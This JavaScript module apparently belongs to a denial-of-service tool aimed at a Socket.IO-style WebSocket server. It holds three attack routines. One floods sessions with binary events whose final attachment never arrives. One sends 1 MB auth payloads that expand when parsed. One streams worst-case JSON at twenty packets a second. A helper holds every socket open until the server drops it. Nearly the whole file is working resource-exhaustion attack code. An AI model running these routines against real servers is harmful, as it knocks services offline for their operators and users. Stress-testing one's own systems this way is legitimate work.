// Packets that cost the server more memory or time than the attacker.
import * as payloads from '../net/payloads.mjs';
import { openWebsocket } from '../net/websocket.mjs';
import { MEGABYTE } from '../net/payloads.mjs';

const SESSIONS = 40;
const ATTACHMENTS_SENT = 9;
const SOCKETS = 10;
const PACKETS_PER_SECOND = 20;

/** Binary events whose last attachment never comes, before the namespace is entered. */
export async function attachments(field) {
  const head = payloads.binaryEvent(ATTACHMENTS_SENT + 1, payloads.manyObjects(MEGABYTE));
  const part = Buffer.alloc(MEGABYTE, 1);
  field.begin();
  await field.repeat(SESSIONS, async () => {
    const socket = await openWebsocket(field);
    if (socket === null) return false;
    socket.send(head);
    for (let n = 0; n < ATTACHMENTS_SENT && !socket.closed; n++) {
      socket.sendBinary(part);
      await socket.flushed();
    }
    return hold(field, socket);
  });
}

/** Sends auth payloads of 1 MB whose tree is many times as large, on all sockets that an address may have. */
export async function auth(field) {
  const payload = `{"resume":true,"a":${payloads.manyObjects(MEGABYTE)}}`;
  field.begin();
  await field.repeat(3 * SOCKETS, async () => {
    const socket = await openWebsocket(field);
    if (socket === null) return false;
    const entered = await socket.enter(payload);
    field.count(entered ? 'CONNECT taken' : 'CONNECT not taken');
    return entered ? hold(field, socket) : (socket.end(), false);
  });
}

/** Twenty packets a second of the worst JSON, over one connection after another. */
export async function json(field) {
  const worst = [
    payloads.manyObjects(MEGABYTE),
    payloads.deepArrays(MEGABYTE),
    payloads.giantNumber(MEGABYTE),
    payloads.longNumbers(MEGABYTE),
    payloads.longName(MEGABYTE),
    payloads.collidingNames(MEGABYTE),
    payloads.escapes(MEGABYTE),
    payloads.manyNames(MEGABYTE),
  ];
  field.begin();
  let turn = 0;
  await field.repeat(1, async () => {
    const socket = await openWebsocket(field);
    if (socket === null) return false;
    await socket.enter('{"resume":true}');
    while (!socket.closed && !field.over) {
      socket.send(payloads.rawEvent('clock', worst[turn++ % worst.length]));
      field.count('packets');
      await socket.flushed();
      await field.rest(1000 / PACKETS_PER_SECOND);
    }
    return false;
  });
}

/** Keeps a socket until the server closes it or the attack ends; returns false, so that the next attempt pauses first. */
async function hold(field, socket) {
  while (!socket.closed && !field.over) await field.rest(100);
  if (socket.closed) field.count('closed by the server');
  return false;
}
